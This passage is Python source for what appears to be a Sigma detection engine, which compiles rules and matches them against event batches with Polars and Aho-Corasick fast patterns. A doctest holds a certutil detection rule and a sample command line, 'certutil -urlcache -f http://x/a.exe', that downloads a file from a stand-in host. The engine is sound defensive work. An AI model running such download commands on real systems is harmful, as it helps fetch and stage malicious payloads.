"""Compile a rule set once; evaluate it on each batch of events.

The strategy is the one signature IDS engines use. Every rule gets a *fast pattern*
(:mod:`detect.patterns`): one or two slots of lower-cased literals, and in each slot at
least one literal must occur in its column for the rule to match. Literals come from
string matches and from the required parts of regexes. Per batch:

0. a batch whose rows repeat (few distinct combinations of the columns the rules read)
   is evaluated once per distinct combination, and the matches fanned out to its rows;
   whether a large batch repeats enough is estimated on a sample first;
1. each referenced string column is lower-cased once, shared by all rules, and each
   conjunct that many rules AND in (a pipeline's log-source condition) is computed once
   into a boolean column (:mod:`detect.plans`);
2. one Aho-Corasick pass per column over all the fast-pattern literals of that column
   gives (row, slot) pairs, each distinct slot counted once however many rules share it
   (:mod:`detect.candidates`); a frame under 20,000 rows is searched in one eager step
   (every column at once, the slots then counted per group); in a longer one, a column
   whose values repeat (executable paths, hashes, users) is searched once per distinct
   value, any other one in slices, one per core;
3. rules that share a pattern share their candidate rows, gathered once per group; each
   rule runs there with its literal tests first and its regexes, wildcards and long
   alternations only on the rows those tests kept; groups on few rows (up to 2,000 in
   all), where the fixed cost of a query would be most of their cost, run row by row in
   Python on their own rows (:mod:`detect.rowwise`: a rule compiled once to a function,
   about a microsecond a row), and those holding a regex or another node Python does not
   compute alike together in one eager select;
4. a rule whose columns repeat (few distinct combinations for the rows it runs on) is
   evaluated once per distinct combination and joined back to its rows;
5. rules without a usable fast pattern (short literals, numbers, negations) run on every
   row.

So the cost of most rules is one shared multi-pattern pass, not one scan each. On the first
batch, :meth:`CompiledRuleSet.calibrate` counts how often every literal occurs and picks
each rule's pattern by that count. Expressions are built to cost few Polars nodes: an OR
of prefixes or suffixes on one column is one anchored regex, of up to 64 contained
literals one regex of the escaped literals (Polars builds an automaton on each call of
``contains_any``), of wildcards and regexes one regex of alternatives, and a regex search
loses its optional tail (:mod:`detect.regexes`). The ``naive`` strategy (every rule's
expression over every row, in one lazy query) is kept as the baseline the benchmarks
compare against.

Where the time still goes on SigmaHQ's 1,183 process_creation rules (docs/benchmarks.md):
lower-casing the referenced columns; the Aho-Corasick pass over command lines and hashes,
about 150-200 MB/s with hundreds or thousands of literals whatever their number, when the
values do not repeat; verifying the rules whose only usable literals are common on Windows
hosts (``\\svchost.exe``, ``\\powershell.exe``) on a large share of rows; and, in a small
batch, a fixed cost of some 20-30 microseconds per Polars expression node and per regex or
automaton built, paid again on every batch. A handful of regex rules with no literal of
two bytes still scan every row.

Compiling (pySigma: parsing, pipelines, conversion) lives in :mod:`detect.compiling`,
imported on the first call of :meth:`CompiledRuleSet.compile`: a rule set read from the
cache never imports pySigma.
"""

from __future__ import annotations

import copy
import math
from collections import defaultdict
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Generic, Literal, TypeVar

import polars as pl

from detect import ir
from detect.candidates import ONE_STEP_ROWS, CandidateIndex
from detect.compiled import CompiledRule
from detect.distinct import ROWS, fan_out, group_rows, holds_floats
from detect.expressions import INTERNAL_PREFIX, InlineColumns, to_expr
from detect.files import RuleProblem
from detect.folding import FOLDS_TO_ASCII, fold, fold_expr
from detect.ir import ALL_TEXT, TEXT_SEPARATOR
from detect.patterns import USELESS_ABOVE, Pattern, choose_pattern
from detect.pipeline_names import DEFAULT_PIPELINE
from detect.plans import (
    has_keywords,
    keyword_tests,
    lowered_fields,
    plan_rule,
    shared_conjuncts,
    verify_query,
)
from detect.rowwise import LeafTests, RowProgram, compile_program, run_programs

if TYPE_CHECKING:
    from sigma.rule import SigmaRule

    from detect.loader import SourcedRule

__all__ = ["MATCH_SCHEMA", "CompiledRuleSet", "Strategy"]

Strategy = Literal["fast", "naive"]
_T = TypeVar("_T")

MATCH_SCHEMA: dict[str, pl.DataType] = {
    "row": pl.UInt32(),
    "rule_index": pl.UInt32(),
    "rule_id": pl.String(),
    "rule_title": pl.String(),
    "level": pl.String(),
}
_LOWER = f"{INTERNAL_PREFIX}lc_"
# A frame at least this long has its joined text built a slice per thread.
SLICED_ROWS = 10_000
# Rows of the keywords' joined text lower-cased at a time (see _ascii_lowered_joined).
ASCII_SLICE_ROWS = 4_096
# A rule whose fast pattern hits more than this share of a batch runs on the whole batch:
# gathering most rows costs more than evaluating the rule on all of them.
DENSE_SHARE = 0.5
# A column whose sample has fewer distinct values than this share of its rows (executable
# paths, hashes, users) is searched once per distinct value instead of once per row.
REPETITIVE_SHARE = 0.5
# A column searched row by row whose literals hit at most this share of the sample's rows
# (the sum of their hits, an upper bound) is first narrowed by one regular expression to
# the rows any of them occurs in (:meth:`CandidateIndex.with_prefilters`).
PREFILTER_SHARE = 0.1
# A rule whose columns repeat and can take at most this share of the rows it runs on as
# distinct combinations (the product of each column's distinct values in the sample) is
# evaluated once per distinct combination and joined back to its rows.
DISTINCT_SHARE = 0.05
# A batch whose rows take at most this share of distinct combinations of the columns the
# rules read is evaluated once per combination, and the matches fanned out to its rows.
DISTINCT_ROWS_SHARE = 0.5
# Groups of rules on few candidate rows are verified together, in one eager select on the
# rows any of them needs, up to this many rows in all: each query has a fixed cost
# (planning, building its automata and regexes) that a few rows cannot amortise.
TOGETHER_ROWS = 2_000
# Of those, the rules with a row-by-row program (:mod:`detect.rowwise`) run in Python on
# their own candidate rows while their (rule, row) pairs add up to no more than this: a
# microsecond or so a pair, where a Polars select costs tens of microseconds a node.
ROWWISE_PAIRS = 20_000
# Rows of the first batch the engine counts literals on.
CALIBRATION_ROWS = 20_000


class _EngineColumns(InlineColumns):
    """Case-folded text comes from the columns the engine prepared once per batch."""

    def lower(self, field: str) -> pl.Expr:
        return pl.col(_LOWER + field)

    def all_lower(self) -> pl.Expr | None:
        return pl.col(_LOWER + ALL_TEXT)


def _text_columns(frame: pl.DataFrame) -> list[str]:
    """The columns a keyword reads: every text column but the engine's own."""
    return [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String and not name.startswith(INTERNAL_PREFIX)
    ]


def _in_slices(frame: pl.DataFrame, expr: pl.Expr) -> pl.Series:
    """``expr`` on ``frame``, a slice of rows per thread.

    A string function of one column runs on one thread per chunk, and the joined text is
    one column as long as all the others (folding 50,000 Sysmon events' text: 0.8 s).
    """
    threads = pl.thread_pool_size()
    if threads < 2 or frame.height < SLICED_ROWS:
        return frame.select(expr).to_series()
    step = -(-frame.height // threads)
    slices = [
        frame.lazy().slice(start, step).select(expr) for start in range(0, frame.height, step)
    ]
    return pl.concat([part.to_series() for part in pl.collect_all(slices)], rechunk=False)


def _joined_folding(texts: list[str], parts: list[pl.Expr]) -> pl.Expr:
    """The folded ``texts`` (``parts``) joined into the folded ``ALL_TEXT``.

    Folding is per character and leaves the separator as it is, so the joined foldings
    are the folding of the joined text. Null where every value is: no keyword matches
    there, not even an empty one.
    """
    joined = pl.concat_str(parts, separator=TEXT_SEPARATOR, ignore_nulls=True)
    some = pl.any_horizontal(pl.col(t).is_not_null() for t in texts)
    return pl.when(some).then(joined).alias(_LOWER + ALL_TEXT)


def _utf8_starts(chars: str) -> tuple[bytes, ...]:
    """Byte strings, one of which begins the UTF-8 of each of ``chars``.

    A character's first two bytes where several characters share them, else all of it.

    >>> _utf8_starts("\u1e96\u1e97\u212a")
    (b'\xe1\xba', b'\xe2\x84\xaa')
    """
    by_pair: dict[bytes, set[bytes]] = defaultdict(set)
    for char in chars:
        encoded = char.encode()
        by_pair[encoded[:2]].add(encoded)
    return tuple(
        sorted(pair if len(group) > 1 else next(iter(group)) for pair, group in by_pair.items())
    )


_FOLDS_TO_ASCII_STARTS = _utf8_starts(FOLDS_TO_ASCII)


def _ascii_lowered_joined(frame: pl.DataFrame, texts: list[str]) -> pl.Series:
    """``ALL_TEXT`` for keywords whose literals are all ASCII: lower-cased ASCII letters.

    Unicode folding costs about twenty times lower-casing ASCII letters (the raw line of
    every Sysmon event holds ``®``: 0.7 s against 0.03 s for 50,000 events). With only its
    ASCII letters lower-cased, text differs from its folding in characters beyond ASCII
    alone, so an ASCII literal occurs in it exactly where it occurs in the folding, except
    in a row holding one of :data:`detect.folding.FOLDS_TO_ASCII` (``ß`` folds to ``ss``):
    the rows holding the first bytes of one of those are folded.

    A slice of rows at a time: each text column lower-cased by Arrow, then joined by
    Polars, so that the joined text is held once, in Polars' memory (the whole of it in
    Arrow's own pool beside Polars' memory raised a run's peak by 300 MB). One thread: on
    two cores, slices side by side took more CPU for little less wall time.
    """
    import pyarrow as pa  # only for rule sets with keywords: its import is not free
    import pyarrow.compute as pc

    name = _LOWER + ALL_TEXT
    # Columns null in every row add nothing to the joined text.
    nulls = frame.select(texts).null_count().row(0)
    present = [t for t, count in zip(texts, nulls, strict=True) if count < frame.height]
    if not present:
        return pl.Series(name, [None] * frame.height, dtype=pl.String)
    joined = _joined_folding(present, [pl.col(t) for t in present])
    text = pl.col(name).cast(pl.Binary)
    marked = pl.any_horizontal(text.bin.contains(start) for start in _FOLDS_TO_ASCII_STARTS)
    pool = pa.system_memory_pool()
    parts = []
    for start in range(0, frame.height, ASCII_SLICE_ROWS):
        table = frame.slice(start, ASCII_SLICE_ROWS).select(present).to_arrow()
        columns = [pc.ascii_lower(column, memory_pool=pool) for column in table.columns]
        # Joined by Polars into its own memory; Arrow's copies are given back at once.
        part = pl.DataFrame(pa.table(columns, names=present)).select(joined).to_series()
        del table, columns
        rows = part.to_frame().select(marked).to_series().arg_true()
        if rows.len():
            folded = part.gather(rows).to_frame().select(fold_expr(pl.col(name))).to_series()
            part = part.scatter(rows, folded)
        parts.append(part)
    return pl.concat(parts, rechunk=False) if parts else pl.Series(name, [], dtype=pl.String)


def _folded(column: str, text: pl.Expr, ascii_only: bool, repetitive: bool = False) -> pl.Expr:
    """The case folding of a column; for ASCII text, lower-casing is the same and cheaper.

    A ``repetitive`` column's other text is folded once per distinct value and mapped back
    to its rows: Unicode folding (``®`` in Sysmon's ``Product``) costs several times ASCII
    lower-casing, the mapping less than either.
    """
    if ascii_only:
        folded = text.str.to_lowercase()
    elif repetitive:
        # First-seen order: the keys and their foldings line up, however often evaluated.
        values = text.unique(maintain_order=True).drop_nulls()
        folded = text.replace_strict(values, fold_expr(values), default=None)
    else:
        folded = fold_expr(text)
    return folded.alias(_LOWER + column)


class CompiledRuleSet:
    """Rules compiled once, evaluated per batch.

    >>> rules = CompiledRuleSet.from_yaml('''
    ... title: Certutil download
    ... id: 5b3b2a4e-1f1e-4a35-9a53-6f0b6f1f2b11
    ... logsource: {category: process_creation, product: windows}
    ... detection:
    ...   selection:
    ...     Image|endswith: '\\\\certutil.exe'
    ...     CommandLine|contains: 'urlcache'
    ...   condition: selection
    ... level: high
    ... ''', pipeline="none")
    >>> events = pl.DataFrame({
    ...     "Image": [r"C:\\Windows\\System32\\certutil.exe", r"C:\\Windows\\notepad.exe"],
    ...     "CommandLine": ["certutil -urlcache -f http://x/a.exe", "notepad"],
    ... })
    >>> rules.evaluate(events).select("row", "rule_title").rows()
    [(0, 'Certutil download')]
    """

    def __init__(
        self,
        rules: Sequence[CompiledRule],
        rejected: Sequence[RuleProblem] = (),
        *,
        strategy: Strategy = "fast",
        pipeline: str = DEFAULT_PIPELINE,
    ) -> None:
        self.rules: tuple[CompiledRule, ...] = tuple(rules)
        self.rejected: tuple[RuleProblem, ...] = tuple(rejected)
        self.strategy: Strategy = strategy
        self.pipeline = pipeline
        fields = [ir.fields_of(r.node) for r in self.rules]
        lowers = [lowered_fields(r.node) for r in self.rules]
        self._fields = sorted(set().union(*fields))
        self._lowered = sorted(
            set().union(*lowers) | {f for r in self.rules for f, _ in r.literals}
        )
        cols = _EngineColumns()
        shared = shared_conjuncts([r.node for r in self.rules])
        self._shared = [to_expr(node, cols).alias(name) for node, name in shared.items()]
        # Built on first use: most rules of a large set never get a candidate row in a
        # batch, and building thousands of expressions up front is most of the start-up.
        nodes = [r.node for r in self.rules]
        self._exprs = _Memo(lambda i: to_expr(nodes[i], cols).alias(str(i)))
        self._plans = _Memo(lambda i: plan_rule(nodes[i], cols, shared))
        self._leaf_tests = LeafTests(_lowered_name)
        self._programs: _Memo[RowProgram | None] = _Memo(
            lambda i: compile_program(nodes[i], shared, _lowered_name, self._leaf_tests)
        )
        self._keywords = [has_keywords(r.node) for r in self.rules]
        # Whether every keyword search of the joined text (a test's value; the fast
        # patterns' literals are asked of the index) is for ASCII text.
        self._ascii_needles = all(
            fold(test.value).isascii() or TEXT_SEPARATOR in fold(test.value)
            for r in self.rules
            for test in keyword_tests(r.node)
            if isinstance(test, ir.StrMatch) and test.kind is ir.StrKind.CONTAINS and not test.cased
        )
        self.calibrated = False
        self.distinct_share = DISTINCT_ROWS_SHARE
        """Largest share of distinct rows (over the columns the rules read) at which a batch
        is evaluated once per distinct row: 0 never, 1 always. Results are the same."""
        self.one_step_rows = ONE_STEP_ROWS
        """A frame shorter than this is searched in one step (see ``with_thresholds``)."""
        self.together_rows = TOGETHER_ROWS
        """Most rows of groups verified together in one select (see ``with_thresholds``)."""
        self.rowwise_pairs = ROWWISE_PAIRS
        """Most (rule, row) pairs verified row by row in Python (see ``with_thresholds``)."""
        self._repetitive: frozenset[str] = frozenset()
        self._combinations: tuple[int | None, ...] = (None,) * len(self.rules)
        self._bases = [sorted(f | low) for f, low in zip(fields, lowers, strict=True)]
        self._lowers = [sorted(low) for low in lowers]
        self._index = CandidateIndex([r.pattern for r in self.rules])
        # Expressions for batches where some fields hold lists, built on first need.
        self._list_exprs: dict[frozenset[str], list[pl.Expr]] = {}
        self.literal_hits: dict[str, int] = {}
        """Per column, the literal hits counted on the calibration sample."""
        self._meta = pl.DataFrame(
            {
                "rule_index": [r.index for r in self.rules],
                "rule_id": [r.id for r in self.rules],
                "rule_title": [r.title for r in self.rules],
                "level": [r.level for r in self.rules],
            },
            schema={k: MATCH_SCHEMA[k] for k in ("rule_index", "rule_id", "rule_title", "level")},
        )
        self._sealed = True

    def __setattr__(self, name: str, value: object) -> None:
        if getattr(self, "_sealed", False):
            raise AttributeError(f"a compiled rule set does not change ({name}); see with_*")
        object.__setattr__(self, name, value)

    def _replace(self, **changes: object) -> CompiledRuleSet:
        """A copy with some attributes changed, sharing every compiled expression."""
        new = copy.copy(self)
        for name, value in changes.items():
            object.__setattr__(new, name, value)
        return new

    def with_rejected(self, problems: Sequence[RuleProblem]) -> CompiledRuleSet:
        """The same rules, with ``problems`` (rules that did not load) reported first."""
        return self._replace(rejected=tuple(problems) + self.rejected)

    def with_distinct_share(self, share: float) -> CompiledRuleSet:
        """The same rules, grouping a batch by distinct rows up to ``share`` (0: never)."""
        return self._replace(distinct_share=share)

    def with_thresholds(
        self,
        *,
        one_step_rows: int | None = None,
        together_rows: int | None = None,
        rowwise_pairs: int | None = None,
    ) -> CompiledRuleSet:
        """The same rules, with other sizes at which the work is split. Results are the same.

        ``one_step_rows``: a frame shorter than this is searched in one step, a longer one
        column by column (0: always column by column). ``together_rows``: groups of rules
        on few candidate rows are verified in one select while their rows add up to no
        more than this (0: each group in its own query).
        """
        changes: dict[str, object] = {}
        if one_step_rows is not None:
            changes["one_step_rows"] = one_step_rows
        if together_rows is not None:
            changes["together_rows"] = together_rows
        if rowwise_pairs is not None:
            changes["rowwise_pairs"] = rowwise_pairs
        return self._replace(**changes)

    def with_static_patterns(self) -> CompiledRuleSet:
        """The same rules, each with the fast pattern chosen from its text alone.

        For an input too short to pay for :meth:`calibrate` (about 0.3 s at SigmaHQ's
        1,183 process_creation rules): the patterns may leave more candidate rows, never
        other matches. A calibrated rule set is returned as it is.
        """
        return self if self.calibrated else self._replace(calibrated=True)

    def calibrate(
        self, events: pl.DataFrame, sample_rows: int = CALIBRATION_ROWS
    ) -> CompiledRuleSet:
        """The rule set with each rule's fast pattern picked by how often its literals occur.

        Counts, on a sample of ``events``, the rows hit by every literal any rule could
        use, and gives each rule the pattern expected to leave fewest candidate rows
        (``\\cmd.exe`` is a poor fast pattern on Windows hosts; ``-urlcache`` is a good
        one), with a second required slot where the first still leaves many rows.
        Results never change, only the work done. The rule set itself is left as it is;
        the calibrated one shares its compiled expressions. ``literal_hits`` of the result
        holds the per-column hit totals of the sample.
        """
        if self._lists_in(events):
            return self._replace(calibrated=True)
        sample = self._prepare(events.head(sample_rows))
        by_column: dict[str, set[str]] = defaultdict(set)
        for rule in self.rules:
            for column, literal in rule.literals:
                by_column[column].add(literal)
        # One query per column and one for the distinct counts, run side by side.
        columns = list(by_column)
        counted = pl.collect_all(
            [
                sample.lazy()
                .select(
                    pl.col(_LOWER + column)
                    .str.extract_many(sorted(by_column[column]), overlapping=True)
                    .list.unique()
                    .alias("literal")
                )
                .explode("literal")
                .drop_nulls()
                .group_by("literal")
                .len()
                for column in columns
            ]
            + [
                sample.lazy().select(
                    *(pl.col(c).n_unique().alias(c) for c in self._fields),
                    *(pl.col(_LOWER + c).n_unique().alias(_LOWER + c) for c in columns),
                )
            ]
        )
        frequency: dict[tuple[str, str], int] = {
            (column, literal): n
            for column, counts in zip(columns, counted[:-1], strict=True)
            for literal, n in counts.iter_rows()
        }
        uniques = counted[-1].row(0, named=True) if counted[-1].width else {}
        rows = max(sample.height, 1)
        distinct = {column: uniques[column] for column in self._fields}
        # Columns that repeat in the sample are taken to repeat as much in any batch.
        combinations = tuple(
            math.prod(distinct[c] for c in base)
            if base
            and not self._keywords[index]
            and all(distinct[c] < REPETITIVE_SHARE * rows for c in base)
            else None
            for index, base in enumerate(self._bases)
        )
        repetitive = frozenset(
            column for column in columns if uniques[_LOWER + column] < REPETITIVE_SHARE * rows
        )

        def share(column: str, literal: str) -> float:
            # Never zero: a literal absent from the sample is rare, not free, and longer
            # literals still break ties.
            unseen = 0.1 / rows / len(literal.encode("utf-8"))
            return frequency.get((column, literal), 0) / rows + unseen

        patterns = [choose_pattern(r.node, share, drop_above=USELESS_ABOVE) for r in self.rules]
        totals: dict[str, int] = defaultdict(int)
        for (column, _), n in frequency.items():
            totals[column] += n
        index = CandidateIndex(patterns)
        rare = [
            column
            for column, (literals, _) in index.tables.items()
            if column not in repetitive
            and sum(frequency.get((column, literal), 0) for literal in literals)
            <= PREFILTER_SHARE * rows
        ]
        return self._replace(
            _index=index.with_prefilters(rare),
            _combinations=combinations,
            _repetitive=repetitive,
            calibrated=True,
            literal_hits=dict(totals),
        )

    # Building -------------------------------------------------------------------------

    @classmethod
    def compile(
        cls,
        sources: Iterable[SourcedRule | SigmaRule],
        *,
        pipeline: str = DEFAULT_PIPELINE,
        placeholders: Mapping[str, list[str]] | None = None,
        strategy: Strategy = "fast",
    ) -> CompiledRuleSet:
        """Compile rules; each one that cannot be evaluated is rejected by name and reason."""
        from detect.compiling import compile_sources

        compiled, rejected = compile_sources(sources, pipeline, placeholders)
        return cls(compiled, rejected, strategy=strategy, pipeline=pipeline)

    @classmethod
    def from_yaml(
        cls,
        *documents: str,
        pipeline: str = DEFAULT_PIPELINE,
        placeholders: Mapping[str, list[str]] | None = None,
        strategy: Strategy = "fast",
    ) -> CompiledRuleSet:
        """Compile rules given as YAML text (tests, ``neakta rules test``)."""
        from detect.compiling import parse_documents

        sources, problems = parse_documents(documents)
        ruleset = cls.compile(
            sources, pipeline=pipeline, placeholders=placeholders, strategy=strategy
        )
        return ruleset.with_rejected(problems)

    # Inspecting -----------------------------------------------------------------------

    def expressions(self) -> dict[str, pl.Expr]:
        """One self-contained ``pl.Expr`` per rule id (inline lower-casing)."""
        return {r.id: to_expr(r.node).alias(r.id) for r in self.rules}

    @property
    def patterns(self) -> tuple[Pattern, ...]:
        """The fast pattern each rule runs with now (after calibration, if any)."""
        return self._index.patterns

    @property
    def columns_read(self) -> tuple[str, ...] | None:
        """The fields the rules read; None where some rule searches every text column."""
        return None if any(self._keywords) else tuple(self._fields)

    @property
    def fields_read(self) -> tuple[str, ...]:
        """The fields the rules name (keywords name none)."""
        return tuple(self._fields)

    @property
    def keyword_tests(self) -> tuple[ir.Node, ...]:
        """Every keyword test of the rules (a test of every text value), in rule order."""
        return tuple(
            test
            for rule, keywords in zip(self.rules, self._keywords, strict=True)
            if keywords
            for test in keyword_tests(rule.node)
        )

    @property
    def fast_pattern_coverage(self) -> float:
        """Share of rules that have a fast pattern (the rest run on every row)."""
        with_pattern = sum(1 for r in self.rules if r.pattern)
        return with_pattern / len(self.rules) if self.rules else 1.0

    # Evaluating -----------------------------------------------------------------------

    def evaluate(self, events: pl.DataFrame) -> pl.DataFrame:
        """Every (row, rule) match of the batch, sorted by row then rule (``MATCH_SCHEMA``).

        An uncalibrated rule set is calibrated on this batch first, and the calibration
        dropped afterwards: to evaluate many batches, keep ``ruleset.calibrate(first)``.
        """
        if not self.rules or events.height == 0:
            return pl.DataFrame(schema=MATCH_SCHEMA)
        lists = self._lists_in(events)
        if lists:
            pairs = self._run_lists(events, lists)
        elif self.strategy == "naive":
            frame = self._prepare(events)
            exprs = [self._exprs[i] for i in range(len(self.rules))]
            pairs = _true_pairs(frame.lazy().select(exprs).collect(), None)
        else:
            ruleset = self if self.calibrated else self.calibrate(events)
            pairs = ruleset._run_distinct(events)
        return (
            pairs.unique()
            .join(self._meta, on="rule_index", how="left")
            .sort("row", "rule_index")
            .select(list(MATCH_SCHEMA))
        )

    def _run_distinct(self, events: pl.DataFrame) -> pl.DataFrame:
        """The rules once per distinct row (over the columns they read), if rows repeat."""
        groups = group_rows(events.select(self._key(events)), self.distinct_share)
        if groups is None:
            return self._run_fast(events)
        return fan_out(self._run_fast(groups.drop(ROWS)), groups)

    def _key(self, events: pl.DataFrame) -> list[str]:
        """The columns of ``events`` the rules read: their fields, all text for keywords."""
        present = [f for f in self._fields if f in events.columns]
        if not any(self._keywords):
            return present
        text = [c for c, t in events.schema.items() if t == pl.String and c not in present]
        return present + text

    def _lists_in(self, events: pl.DataFrame) -> frozenset[str]:
        """The fields the rules read that hold lists in ``events`` (all, for keywords)."""
        schema = events.schema
        lists = {n for n, t in schema.items() if isinstance(t, pl.List | pl.Array)}
        if not lists:
            return frozenset()
        if any(self._keywords):
            return frozenset(lists)
        return frozenset(f for f in self._fields if f in lists)

    def _run_lists(self, events: pl.DataFrame, lists: frozenset[str]) -> pl.DataFrame:
        """Every rule on every row, each test on a list field holding for some element.

        The fast paths read text columns; a batch where a field the rules read holds lists
        is rare enough to be evaluated plainly.
        """
        exprs = self._list_exprs.get(lists)
        if exprs is None:
            cols = InlineColumns(lists)
            exprs = [to_expr(r.node, cols).alias(str(r.index)) for r in self.rules]
            self._list_exprs[lists] = exprs
        missing = [f for f in self._fields if f not in events.columns]
        frame = events.with_columns(pl.lit(None, dtype=pl.String).alias(f) for f in missing)
        return _true_pairs(frame.lazy().select(exprs).collect(), None)

    def _run_fast(self, events: pl.DataFrame) -> pl.DataFrame:
        frame, ascii_text = self._prepared(events)
        return pl.concat([self._run_unfiltered(frame), self._run_candidates(frame, ascii_text)])

    def _verify_small(
        self, frame: pl.DataFrame, groups: list[tuple[list[int], pl.Series]]
    ) -> list[pl.DataFrame]:
        """Groups of rules on few rows: row by row in Python where the rules allow it.

        The rest run together in one Polars select on the rows any of them needs.
        """
        pairs = sum(len(rules) * len(rows) for rules, rows in groups)
        if pairs > self.rowwise_pairs:
            return [self._verify_rest(frame, groups)]
        rowwise: list[tuple[list[tuple[int, RowProgram]], pl.Series]] = []
        rest: list[tuple[list[int], pl.Series]] = []
        for rules, rows in groups:
            compiled: list[tuple[int, RowProgram]] = []
            left: list[int] = []
            for index in rules:
                program = self._programs[index]
                if program is None:
                    left.append(index)
                else:
                    compiled.append((index, program))
            if compiled:
                rowwise.append((compiled, rows))
            if left:
                rest.append((left, rows))
        found = [run_programs(frame, rowwise, _lowered_name, self._leaf_tests)] if rowwise else []
        if rest:
            found.append(self._verify_rest(frame, rest))
        return found

    def _verify_rest(
        self, frame: pl.DataFrame, groups: list[tuple[list[int], pl.Series]]
    ) -> pl.DataFrame:
        """Groups of rules together in one select, on the rows any of them needs."""
        rules = [i for group, _ in groups for i in group]
        rows = pl.concat([rows for _, rows in groups]).unique().sort()
        return self._verify_together(frame, rules, rows)

    def _verify_together(
        self, frame: pl.DataFrame, rules: list[int], rows: pl.Series
    ) -> pl.DataFrame:
        """``rules`` in one eager select on ``rows`` (sorted, unique): no plan to make.

        A rule's expression is true only where its pattern occurs, so running it on more
        rows than its own candidates gives the same matches.
        """
        if any(self._keywords[i] for i in rules):
            subset = frame[rows]
        else:
            columns = set().union(*(self._plans[i].columns for i in rules))
            subset = frame.select(sorted(columns))[rows]
        return _true_pairs(subset.select(self._plans[i].expr.alias(str(i)) for i in rules), rows)

    def _prepare(self, events: pl.DataFrame) -> pl.DataFrame:
        return self._prepared(events)[0]

    def _prepared(self, events: pl.DataFrame) -> tuple[pl.DataFrame, frozenset[str]]:
        """The batch with its folded columns, and the columns whose text is all ASCII.

        ASCII text folds to ASCII text, so the folded text of those is ASCII too.
        """
        missing = [f for f in self._fields if f not in events.columns]
        frame = events.with_columns(pl.lit(None, dtype=pl.String).alias(f) for f in missing)
        fields = [f for f in self._lowered if f != ALL_TEXT]
        joined = len(fields) < len(self._lowered)
        # Keywords read every text column, joined: each folded once (a field's folding
        # serves again).
        texts = _text_columns(frame) if joined else []
        ascii_only = _ascii_only(frame, sorted({*fields, *texts}))
        lowered = frame.with_columns(
            _folded(f, pl.col(f).cast(pl.String), ascii_only(f), f in self._repetitive)
            for f in fields
        )
        if joined and not texts:  # no text column: no keyword matches
            lowered = lowered.with_columns(pl.lit(None, pl.String).alias(_LOWER + ALL_TEXT))
        elif joined and self._ascii_needles and self._index.all_ascii(ALL_TEXT):
            lowered = lowered.with_columns(_ascii_lowered_joined(frame, texts))
        elif joined:
            folded = set(fields)
            parts = [
                pl.col(_LOWER + t) if t in folded else _folded(t, pl.col(t), ascii_only(t))
                for t in texts
            ]
            lowered = lowered.with_columns(_in_slices(lowered, _joined_folding(texts, parts)))
        ascii_text = frozenset(f for f in fields if ascii_only(f))
        if texts and all(ascii_only(t) for t in texts):
            ascii_text |= {ALL_TEXT}
        if self.strategy == "naive" or not self._shared:
            return lowered, ascii_text
        return lowered.with_columns(self._shared), ascii_text

    def _run_unfiltered(self, frame: pl.DataFrame) -> pl.DataFrame:
        if not self._index.unfiltered:
            return pl.DataFrame(schema={"row": pl.UInt32, "rule_index": pl.UInt32})
        unfiltered = self._index.unfiltered
        by_distinct = [i for i in unfiltered if self._by_distinct(i, frame, frame.height)]
        whole = [i for i in self._index.unfiltered if i not in by_distinct]
        found = pl.collect_all([self._distinct_query(frame, i, None) for i in by_distinct])
        if whole:
            result = frame.lazy().select(self._plans[i].expr.alias(str(i)) for i in whole).collect()
            found.append(_true_pairs(result, None))
        return pl.concat(found) if found else _NO_PAIRS.clear()

    def _by_distinct(self, index: int, frame: pl.DataFrame, rows: int) -> bool:
        """Whether the rule's columns take few enough combinations to run once per each.

        Never where a column holds floats: joining takes 0.0 and -0.0 as one value, which
        a rule reading the text tells apart.
        """
        combinations = self._combinations[index]
        if combinations is None or combinations > DISTINCT_SHARE * rows:
            return False
        schema = frame.schema
        return not any(holds_floats(schema[c]) for c in self._bases[index])

    def _distinct_query(
        self, frame: pl.DataFrame, index: int, rows: pl.Series | None
    ) -> pl.LazyFrame:
        """The rule on each distinct combination of its columns, joined back to the rows."""
        base = self._bases[index]
        source = frame.select(base) if rows is None else frame.select(base)[rows]
        row_ids = pl.int_range(pl.len(), dtype=pl.UInt32) if rows is None else pl.lit(rows)
        ascii_only = _ascii_only(source, self._lowers[index])
        lowered = [
            _folded(f, pl.col(f).cast(pl.String), ascii_only(f)) for f in self._lowers[index]
        ]
        hits = source.lazy().unique().with_columns(lowered).filter(self._exprs[index]).select(base)
        return (
            source.lazy()
            .with_columns(row_ids.alias("row"))
            .join(hits, on=base, nulls_equal=True)
            .select("row", pl.lit(index, dtype=pl.UInt32).alias("rule_index"))
        )

    def _run_candidates(
        self, frame: pl.DataFrame, ascii_text: frozenset[str] = frozenset()
    ) -> pl.DataFrame:
        """Each group of rules on its candidate rows, gathered once for the group.

        ``ascii_text``: the columns whose text is ASCII throughout the batch.
        """
        queries = []
        dense: list[int] = []
        # Groups on few rows run together (their fixed cost is most of their cost), the
        # fewest rows first, while their rows add up to no more than TOGETHER_ROWS.
        budget = self.together_rows
        together: list[tuple[list[int], pl.Series]] = []
        found_groups = self._index.search(
            frame, _lowered_name, self._repetitive, self.one_step_rows, ascii_text
        )
        for group, rows in sorted(found_groups, key=lambda found: len(found[1])):
            rest = []
            for index in group.rules:
                if self._by_distinct(index, frame, len(rows)):
                    queries.append(self._distinct_query(frame, index, rows))
                else:
                    rest.append(index)
            if not rest:
                continue
            if len(rows) > DENSE_SHARE * frame.height:
                dense.extend(rest)
                continue
            if len(rows) <= budget:
                budget -= len(rows)
                together.append((rest, rows))
                continue
            if any(self._keywords[i] for i in rest):
                subset = frame[rows]
            else:
                columns = set().union(*(self._plans[i].columns for i in rest))
                subset = frame.select(sorted(columns))[rows]
            queries.extend(verify_query(subset, rows, self._plans[i], i) for i in rest)
        found = pl.collect_all(queries) if queries else []
        if together:
            found.extend(self._verify_small(frame, together))
        if dense:
            full = frame.lazy().select(self._plans[i].expr.alias(str(i)) for i in dense).collect()
            found.append(_true_pairs(full, None))
        return pl.concat(found) if found else _NO_PAIRS.clear()


class _Memo(Generic[_T]):
    """``memo[i]`` is ``build(i)``, built once on first use (a cache, not a state)."""

    def __init__(self, build: Callable[[int], _T]) -> None:
        self._build = build
        self._built: dict[int, _T] = {}

    def __getitem__(self, index: int) -> _T:
        try:
            return self._built[index]
        except KeyError:
            found = self._built[index] = self._build(index)
            return found


def _lowered_name(column: str) -> str:
    return _LOWER + column


def _ascii_only(frame: pl.DataFrame, columns: Sequence[str]) -> Callable[[str], bool]:
    """Which of ``columns`` hold only ASCII text in ``frame`` (bytes and characters agree)."""
    if not columns or frame.height == 0:
